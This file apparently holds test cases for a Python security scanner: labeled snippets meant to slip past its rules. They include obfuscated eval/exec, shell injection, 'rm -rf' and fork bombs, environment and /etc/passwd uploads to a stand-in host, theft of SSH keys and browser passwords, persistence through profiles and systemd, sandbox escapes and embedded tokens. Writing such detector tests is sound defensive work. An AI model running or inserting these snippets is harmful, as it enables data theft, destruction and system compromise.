# Written after the rules were mended for the first time; 72 % of these were found then, and the rules mended again.

# === u-eval-in-property | property of a class | exec-dynamic
class Cell:
    def __init__(self, text):
        self.text = text

    @property
    def value(self):
        return eval(self.text, {"cells": self})

# === u-exec-in-thread | handed to a thread | exec-dynamic
import threading

def later(text):
    threading.Thread(target=exec, args=(text,)).start()

# === u-eval-from-tuple | unpacked from a tuple | exec-dynamic
show, run = print, eval

def answer(text):
    return run(text)

# === u-jinja-from-user | template of others | format-escape, exec-dynamic, escape
template = "{{ ''.__class__.__mro__[1].__subclasses__() }}"

# === u-exec-in-asyncio-executor | run_in_executor | exec-dynamic
import asyncio

async def handle(text):
    await asyncio.get_running_loop().run_in_executor(None, eval, text)

# === u-import-by-loader | loader of the import system | import-dynamic
import importlib

def load(name):
    return importlib.__import__(name).main()

# === u-system-by-getattr-default | getattr with a default | shell, getattr-module
import os

run = getattr(os, "system", None)
run("make " + input())

# === u-popen-class | a class made of Popen | process, shell
import subprocess

class Run(subprocess.Popen):
    pass

Run(input(), shell=True)

# === u-shell-by-ternary | chosen function | shell, process
import os
import subprocess

(os.system if os.name == "posix" else subprocess.getoutput)(input())

# === u-shell-env-split | env -S and xargs | process, shell, shell-destructive
import subprocess

subprocess.run(["xargs", "rm", "-rf"], input="/home", text=True)

# === u-find-delete | find -delete | shell-destructive, process
import subprocess

subprocess.run(["find", "/", "-name", "*.py", "-delete"])

# === u-asyncio-exec-shell | exec of a shell | shell
import asyncio

async def run(command):
    return await asyncio.create_subprocess_exec("sh", "-c", command)

# === u-bomb-threads | threads without end | fork-bomb, endless
import threading

while True:
    threading.Thread(target=print).start()

# === u-memory-bomb | memory | endless
blocks = []
while True:
    blocks.append(bytearray(1 << 20))

# === u-killpg | group | signal-others, exit-hard
import os
import signal

os.killpg(0, signal.SIGKILL)

# === u-requests-alias-from | from-import under another name | network
from requests import put as store

def report(data):
    return store("https://collect.example/x", data=data)

# === u-socket-by-attribute-of-asyncio | loop transport | network
import asyncio

async def report(data):
    loop = asyncio.get_event_loop()
    transport, _ = await loop.create_connection(asyncio.Protocol, "collect.example", 443)
    transport.write(data)

# === u-udp | datagrams | network
import socket

with socket.socket(type=socket.SOCK_DGRAM) as s:
    s.sendto(b"x", ("203.0.113.7", 53))

# === u-env-by-query | environment in a URL | exfiltration, network
import os
import urllib.parse
import urllib.request

query = urllib.parse.urlencode(os.environ)
urllib.request.urlopen("https://collect.example/?" + query)

# === u-curl-upload | curl with a file | process, exfiltration
import subprocess

subprocess.run(["curl", "-F", "f=@/etc/passwd", "https://collect.example"])

# === u-rename-away | os.rename of a system file | persistence, write-outside
from pathlib import Path

Path("/etc/resolv.conf").rename("/etc/resolv.conf.old")

# === u-write-by-fspath-loop | loop over targets | write-outside, persistence
import os

for place in ("~/.profile", "~/.zshrc"):
    with open(os.path.expanduser(place), "a") as file:
        file.write("alias ls=/tmp/x\n")

# === u-print-to-file | print(file=) | write-outside
print("x", file=open("/srv/www/index.html", "w"))

# === u-move-home | shutil.move | write-outside, delete-outside, delete-root
import os
import shutil

shutil.move(os.path.expanduser("~/Documents"), "stolen")

# === u-fileinput-inplace | fileinput | write-outside, persistence
import fileinput

for line in fileinput.input("/etc/hosts", inplace=True):
    print(line.replace("127.0.0.1", "203.0.113.7"), end="")

# === u-ssh-config-walrus | walrus and pathlib | secrets-read
from pathlib import Path

if (key := Path("~/.ssh/id_ed25519").expanduser()).exists():
    data = key.read_bytes()

# === u-browser-passwords | browser | secrets-read, credentials
import os
import sqlite3

base = os.path.expanduser("~/.config/google-chrome/Default")
rows = sqlite3.connect(os.path.join(base, "Login Data")).execute("select * from logins").fetchall()

# === u-kube-config | cluster | credentials
from pathlib import Path

token = open(f"{Path.home()}/.kube/config").read()

# === u-unpickle-from-base64 | pickle of a text | unsafe-load
import base64
import pickle

def restore(cookie):
    return pickle.loads(base64.b64decode(cookie))

# === u-pickle-method-alias | bound later | unsafe-load
import pickle

decode = {"pickle": pickle.loads}["pickle"]

def restore(body):
    return decode(body)

# === u-yaml-loader-instance | Loader used by hand | unsafe-load
import yaml

def read(text):
    return yaml.UnsafeLoader(text).get_single_data()

# === u-setstate-system | __setstate__ | reduce
import subprocess

class Job:
    def __setstate__(self, state):
        subprocess.run(state["command"], shell=True)

# === u-class-getattr-walk | __class__ by type | escape
walk = type([]).__mro__[-1].__subclasses__()

# === u-exception-frames | with_traceback | globals, frames, escape
import sys

def reach():
    try:
        1 / 0
    except ZeroDivisionError:
        frame = sys.exc_info()[2].tb_frame
        return frame.f_back.f_builtins["__import__"]("os")

# === u-code-replace | code.replace | globals, exec-dynamic
def tame(function, other):
    function.__code__ = function.__code__.replace(co_code=other.__code__.co_code)

# === u-func-globals-getattr | getattr text | globals, escape
def reach(function):
    return getattr(function, "__globals__")["os"]

# === u-format-index | f-format of data | format-escape
def show(item):
    return "{0[x].__init__.__globals__}".format({"x": item})

# === u-lambda-builtin-print | replaced | builtins-changed
import builtins
builtins.__dict__["len"] = lambda items: 0

# === u-reload-patched | a library's function is replaced | builtins-changed, tests-patched
import json
import sys

sys.modules["json"].loads = lambda text: {}

# === u-trace-by-pdb | set_trace left | hooks
import bdb

class Watch(bdb.Bdb):
    def user_line(self, frame):
        print(frame.f_locals)

Watch().set_trace()

# === u-libc-by-util | find_library | native
import ctypes
import ctypes.util

libc = ctypes.cdll.LoadLibrary(ctypes.util.find_library("c"))
libc.unlink(b"x")

# === u-pyobject-edit | py_object | native
import ctypes

ctypes.pythonapi.PyObject_SetAttrString(ctypes.py_object(int), b"x", ctypes.py_object(1))

# === u-hex-names | getattr of decoded hex | name-built, getattr-module, exec-hidden
import os
getattr(os, bytes.fromhex("73797374656d").decode())("id")

# === u-translate | str.translate | exec-dynamic, exec-hidden
exec("qsjou)2*".translate({code: code - 1 for code in range(256)}))

# === u-import-sorted | name of letters | import-dynamic, name-built
module = __import__("".join(sorted("so", reverse=False)))

# === u-systemd-system | service | persistence
from pathlib import Path

Path("/etc/systemd/system/x.service").write_text("[Service]\nExecStart=/tmp/x\n")

# === u-python-startup | profile with PYTHONSTARTUP | persistence
import os

with open(os.path.join(os.environ["HOME"], ".bash_profile"), "a") as file:
    file.write("export PYTHONSTARTUP=/tmp/x.py\n")

# === u-git-config-command | git config | process, persistence
import subprocess

subprocess.run(["git", "config", "--global", "core.hooksPath", "/tmp/hooks"])

# === u-openai-key | key | secret
client_options = {"api_key": "sk-proj-a8Kd93mfkLs02JfmAkd92ksla02mfkqP"}

# === u-jwt | token | secret
HEADERS = {"Authorization": "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"}
